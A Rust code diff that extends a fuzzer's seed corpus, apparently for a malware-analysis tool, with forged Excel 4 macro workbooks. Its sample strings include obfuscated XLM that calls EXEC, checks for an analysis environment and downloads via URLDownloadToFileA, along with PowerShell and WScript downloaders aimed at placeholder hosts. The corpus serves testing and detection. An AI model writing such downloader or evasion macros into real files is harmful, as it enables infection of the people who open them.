@@ -1,7 +1,11 @@
 //! Where a fuzzer starts: small good files of every format, forged here.
 
-use crate::forge::zip::{Entry, Lock, NameIn};
-use crate::forge::{Chance, company, macros, pdf, zip};
+use crate::forge::archive::zip;
+use crate::forge::archive::zip::{Entry, Lock, NameIn};
+use crate::forge::carrier::pdf;
+use crate::forge::carrier::xlm;
+use crate::forge::document::Page;
+use crate::forge::{Chance, company, macros};
 use anyhow::{Result, ensure};
 use hinomi_formats::mail::MboxSplitter;
 use std::io::Write;
@@ -22,6 +26,7 @@ pub fn seeds() -> Result<Vec<Seed>> {
     let mut seeds = written();
     seeds.extend(mails()?);
     seeds.extend(documents()?);
+    seeds.extend(workbooks()?);
     seeds.extend(archives()?);
     for packed in [false, true] {
         let lines = vec!["invoice".to_owned()];
@@ -40,7 +45,7 @@ pub fn seeds() -> Result<Vec<Seed>> {
 
 /// Seeds that are a few lines of text.
 fn written() -> Vec<Seed> {
-    let text: [(&'static str, &str, &[u8]); 21] = [
+    let text: [(&'static str, &str, &[u8]); 23] = [
         ("text", "iso-2022-jp", b"ISO-2022-JP\n\x1b$B@A5a=q\x1b(B.doc"),
         ("text", "shift-jis", b"Shift_JIS\n\x90\xbf\x8b\x81\x8f\x91"),
         ("text", "euc-jp", b"x-euc-jp\n\xc0\xc1\xb5\xe1\xbd\xf1"),
@@ -52,6 +57,8 @@ fn written() -> Vec<Seed> {
         ("recipe", "base64", b"From_Base64('A-Za-z0-9+/=',true)Decode_text('UTF-16LE (1200)')\naAB0AHQAcAA="),
         ("recipe", "json", b"[{\"op\":\"From Hex\",\"args\":[\"Auto\"]},{\"op\":\"Gunzip\",\"args\":[]}]\n1f8b0800"),
         ("recipe", "xor", b"XOR({'option':'Hex','string':'2a'},'Standard',false)Find_/_Replace({'option':'Regex','string':'a+'},'b',true,false,true,false)\naaaa"),
+        ("script_xlm", "names", b"=SET.NAME(\"i\",1)\n=WHILE(i<4)\n=SET.NAME(\"s\",s&CHAR(CODE(MID(\"bne\",i,1))+1))\n=SET.NAME(\"i\",i+1)\n=NEXT()\n=EXEC(s&\" /c echo \"&R9C1)\n=IF(GET.WORKSPACE(19),HALT(),GOTO(A8))\n=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"http://a.example/x\",\"x\",0,0)\nhttp://b.example/y"),
+        ("script_xlm", "written", b"=FORMULA(\"=EXEC(\"\"cmd /c \"&\"echo\"\")\",R[3]C)\n=SET.VALUE(B1:C2,{1,2;3,4})\n=FOR.CELL(\"c\",B1:C2,TRUE)\n\n=SUBSTITUTE(REPT(\"ab\",9),\"a\",c)\n=NEXT()\n=RETURN()"),
         ("script_text", "wsh", b"Set s = CreateObject(\"WScript.\" & \"Shell\")\ns.Run \"cmd /c echo http://a.example/x\", 0\n"),
         ("script_text", "powershell", b"$w=New-Object Net.WebClient;foreach($u in 'http://a.example/x','http://b.example/y'){try{$w.DownloadFile($u,'t.tmp')}catch{}}"),
         ("powershell", "joined", b"$u='hXtp'.Replace('X','t')+'://a.example/'+(('b','c')-join'');iwr $u -OutFile \"$env:TEMP\\x.txt\";&($PSHOME[4]+$PSHOME[34]+'X') 'echo 1'"),
@@ -108,6 +115,21 @@ fn documents() -> Result<Vec<Seed>> {
         let source: Vec<String> = truth.modules.into_iter().map(|module| module.code).collect();
         seeds.push(("script_vba", name.clone(), source.join("\n'---\n").into_bytes()));
         seeds.extend(truth.command.map(|line| ("command", name, line.into_bytes())));
+    }
+    Ok(seeds)
+}
+
+/// Workbooks with Excel 4 macros, one a container, each with another way to hide.
+fn workbooks() -> Result<Vec<Seed>> {
+    let mut chance = Chance::new(1);
+    let mut seeds = Vec::new();
+    let styles = [xlm::Style::XlmPlain, xlm::Style::XlmCells, xlm::Style::XlmSelfModifying];
+    for (container, style) in xlm::Container::ALL.into_iter().zip(styles) {
+        let page = Page { lines: vec!["invoice".to_owned()] };
+        let forged = xlm::attack(style, xlm::Shown::Very, page, &mut chance);
+        let bytes = forged.workbook.write(container, &mut chance)?;
+        let name = format!("macros.{}", container.extension());
+        seeds.extend(["workbook", "office"].map(|target| (target, name.clone(), bytes.clone())));
     }
     Ok(seeds)
 }
